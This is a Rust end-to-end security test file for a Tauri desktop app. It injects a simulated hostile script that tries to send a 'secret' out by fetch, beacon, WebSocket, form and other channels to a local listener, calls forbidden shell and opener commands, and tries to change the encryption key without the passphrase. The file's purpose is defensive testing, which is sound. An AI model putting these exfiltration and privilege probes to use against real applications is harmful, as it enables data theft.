//! A page that turns hostile: a script running in the window (a bug in the light
//! formatting, a crafted import) tries what such a script would try, injected through
//! WebDriver into the real app. It must not load or send anything beyond the app
//! (a listener on this machine counts every attempt), navigate the window elsewhere,
//! open a window, reach commands outside the app's own, or change how the circle is
//! protected without the current passphrase.

use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use mentor_e2e::{Driver, World, one_at_a_time};
use serde_json::Value;

/// Counts connections to a port on this machine, and what they asked for.
fn listen() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("address").port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = count.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
            let mut stream = stream;
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let mut request = [0u8; 512];
            let read = stream.read(&mut request).unwrap_or(0);
            let line = String::from_utf8_lossy(&request[..read]);
            eprintln!(
                "hostile page reached the listener: {}",
                line.lines().next().unwrap_or("")
            );
        }
    });
    (port, count)
}

/// Every way a page script could load or send something, to `base`.
const REACH_OUT: &str = r#"
const base = arguments[0];
const tried = [];
const attempt = (what, run) => { try { run(); tried.push(what); } catch (e) { tried.push(what + ' (threw)'); } };
attempt('fetch', () => fetch(base + 'fetch', { method: 'POST', body: 'secret' }).catch(() => {}));
attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', base + 'xhr'); x.send(); });
attempt('image', () => { const i = new Image(); i.src = base + 'img'; document.body.appendChild(i); });
attempt('script', () => { const s = document.createElement('script'); s.src = base + 'script.js'; document.head.appendChild(s); });
attempt('stylesheet', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = base + 'style.css'; document.head.appendChild(l); });
attempt('iframe', () => { const f = document.createElement('iframe'); f.src = base + 'frame'; document.body.appendChild(f); });
attempt('websocket', () => new WebSocket(base.replace('http', 'ws') + 'socket'));
attempt('beacon', () => navigator.sendBeacon(base + 'beacon', 'secret'));
attempt('event source', () => new EventSource(base + 'events'));
attempt('form', () => { const f = document.createElement('form'); f.method = 'POST'; f.action = base + 'form'; document.body.appendChild(f); f.submit(); });
attempt('window.open', () => window.open(base + 'popup'));
attempt('worker', () => new Worker(base + 'worker.js'));
return tried;
"#;

fn own_page(app: &mentor_e2e::Session) -> String {
    app.script("return window.location.href;")
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// What `invoke(command, args)` answered: `{ok}` or `{error}`.
fn invoke(app: &mentor_e2e::Session, command: &str, args: Value) -> Value {
    app.script_async(&format!(
        "window.__TAURI_INTERNALS__.invoke({}, {args}).then((ok) => done({{ ok: ok ?? null }}), (error) => done({{ error }}));",
        serde_json::to_string(command).expect("JSON")
    ))
}

#[test]
fn a_hostile_script_cannot_reach_out_leave_the_app_or_call_beyond_its_commands() {
    let _turn = one_at_a_time();
    let world = World::new();
    let driver = Driver::start(&world);
    let app = driver.launch();
    app.wait_for("//main//h1", "the circle");
    let home = own_page(&app);
    assert!(
        home.starts_with("tauri://localhost"),
        "the app's page: {home}"
    );

    let (port, reached) = listen();
    let base = format!("http://127.0.0.1:{port}/");
    let quoted = serde_json::to_string(&base).expect("JSON");
    let tried = app.script(&REACH_OUT.replace("arguments[0]", &quoted));
    println!("hostile page tried: {tried}");
    // And the window itself, sent elsewhere.
    app.script(&format!(
        "window.location.href = '{base}navigate'; return null;"
    ));
    app.script(&format!(
        "window.location.replace('{base}replace'); return null;"
    ));
    std::thread::sleep(Duration::from_secs(4));
    assert_eq!(
        reached.load(Ordering::SeqCst),
        0,
        "the page reached out of the app"
    );
    assert_eq!(
        own_page(&app),
        home,
        "the window was navigated away from the app"
    );
    app.wait_for("//main//h1", "the app, still there");

    // Commands beyond the app's own are refused: the window may only close itself and
    // listen to the shell's events.
    for (command, args) in [
        (
            "plugin:window|set_title",
            serde_json::json!({"label": "main", "value": "x"}),
        ),
        (
            "plugin:webview|create_webview_window",
            serde_json::json!({"options": {"label": "evil", "url": base}}),
        ),
        (
            "plugin:event|emit",
            serde_json::json!({"event": "shell-request", "payload": null}),
        ),
        ("plugin:app|app_show", serde_json::json!({})),
        (
            "plugin:path|resolve_directory",
            serde_json::json!({"directory": 1}),
        ),
        ("plugin:autostart|enable", serde_json::json!({})),
        ("plugin:opener|open_url", serde_json::json!({"url": base})),
        ("plugin:shell|open", serde_json::json!({"path": base})),
    ] {
        let answer = invoke(&app, command, args);
        assert!(
            answer.get("ok").is_none(),
            "{command} was allowed: {answer}"
        );
    }
    assert_eq!(
        reached.load(Ordering::SeqCst),
        0,
        "a refused command reached out"
    );
    app.quit();
}

const PASSPHRASE: &str = "lantern orchard seventeen";

#[test]
fn behind_a_passphrase_a_script_cannot_change_the_protection_but_the_user_can() {
    let _turn = one_at_a_time();
    let world = World::new();
    let vault = mentor_core::Vault::new(world.data_dir());
    drop(
        vault
            .create_with_passphrase(PASSPHRASE)
            .expect("a passphrase circle"),
    );
    let driver = Driver::start(&world);
    let app = driver.launch();
    app.wait_for("//*[@id='passphrase']", "the passphrase field");
    app.type_into("Passphrase", PASSPHRASE);
    app.click(&app.wait_for("//*[@id='unlock']", "Unlock"));
    app.wait_for("//main//h1", "the circle, open");

    let before = mentor_e2e::folder_bytes(&world.data_dir());
    for args in [
        serde_json::json!({"to": "keyring"}),
        serde_json::json!({"to": "keyring", "current": ""}),
        serde_json::json!({"to": "keyring", "current": "not the passphrase"}),
        serde_json::json!({"to": "passphrase", "passphrase": "a script's own passphrase"}),
        serde_json::json!({"to": "passphrase", "passphrase": "a script's own passphrase", "current": "guess"}),
    ] {
        let answer = invoke(&app, "change_key", args.clone());
        assert_eq!(
            (
                answer["error"]["kind"].as_str(),
                answer["error"]["field"].as_str()
            ),
            (Some("Invalid"), Some("current")),
            "change_key with {args} answered {answer}"
        );
    }
    assert!(
        mentor_e2e::folder_bytes(&world.data_dir()) == before,
        "a refused key change wrote something"
    );

    // The user, with the current passphrase, can.
    app.click(&app.wait_for("//aside//button[normalize-space()='Settings']", "Settings"));
    app.click(&app.wait_for("//*[@id='change-passphrase-open']", "Change passphrase"));
    app.click(&app.wait_for("//*[@id='change-passphrase-save']", "the save button"));
    app.wait_for(
        "//*[@id='change-current-error']",
        "the current passphrase asked for",
    );
    app.type_into("Current passphrase", "not the passphrase");
    let new_passphrase = "harbour lamplight forty two";
    app.type_into("New passphrase", new_passphrase);
    app.type_into("New passphrase again", new_passphrase);
    app.click(&app.wait_for("//*[@id='change-passphrase-save']", "the save button"));
    app.wait_for(
        "//*[@id='change-current-error'][contains(., 'isn’t your current passphrase') or contains(., \"isn't your current passphrase\")]",
        "a wrong current passphrase refused",
    );
    app.type_into("Current passphrase", PASSPHRASE);
    app.click(&app.wait_for("//*[@id='change-passphrase-save']", "the save button"));
    app.wait_gone(
        "//*[@id='change-passphrase-save']",
        "the dialog, once re-encrypted",
    );
    app.quit();
    drop(
        vault
            .open_with_passphrase(
                new_passphrase,
                &mentor_core::key::MemorySecretStore::default(),
            )
            .expect("the new passphrase opens the circle"),
    );
}

/// Starts `invoke(command, args)` from the page without waiting for it (its native
/// question is open meanwhile); `answer_of_started` collects what it answered.
fn start_invoke(app: &mentor_e2e::Session, command: &str, args: Value) {
    app.script(&format!(
        "window.__started = window.__TAURI_INTERNALS__.invoke({}, {args}).then((ok) => ({{ ok: ok ?? null }}), (error) => ({{ error }})); return null;",
        serde_json::to_string(command).expect("JSON")
    ));
}

fn answer_of_started(app: &mentor_e2e::Session) -> Value {
    app.script_async("window.__started.then(done);")
}

#[test]
fn in_keyring_mode_a_script_gets_no_secret_no_plaintext_and_no_new_key_without_the_user() {
    let _turn = one_at_a_time();
    let world = World::new();
    let driver = Driver::start(&world);
    let app = driver.launch();
    app.wait_for(
        "//*[@id='recovery-show']",
        "the new circle, its key not yet saved",
    );

    // Start-up's answer no longer carries the recovery key.
    let first = invoke(&app, "first_screen", serde_json::json!({}));
    assert_eq!(
        first["ok"]["recovery"],
        serde_json::json!({"waiting": true})
    );
    assert!(
        !first.to_string().contains("\"key\""),
        "the first screen carried a key: {first}"
    );

    let before = mentor_e2e::folder_bytes(&world.data_dir());
    let export = world.root.path().join("taken.json");
    for (command, args, title) in [
        (
            "recovery_key",
            serde_json::json!({}),
            "Show your recovery key?",
        ),
        (
            "export_circle",
            serde_json::json!({"format": "json", "path": export, "includeJournal": true}),
            "Export your circle unencrypted?",
        ),
        (
            "change_key",
            serde_json::json!({"to": "passphrase", "passphrase": "a script's own passphrase"}),
            "Use a passphrase instead?",
        ),
    ] {
        start_invoke(&app, command, args);
        // A question the user did not ask for: they decline it.
        app.answer_native_dialog(title, false);
        let answer = answer_of_started(&app);
        assert_eq!(
            answer["error"]["kind"].as_str(),
            Some("Conflict"),
            "{command} went ahead without the user: {answer}"
        );
        assert!(
            answer["error"]["message"]
                .as_str()
                .is_some_and(|message| message.starts_with("You chose Cancel")),
            "{answer}"
        );
    }
    assert!(!export.exists(), "a plaintext export was written");
    assert!(
        mentor_e2e::folder_bytes(&world.data_dir()) == before,
        "a declined request changed the data folder"
    );
    app.quit();
}
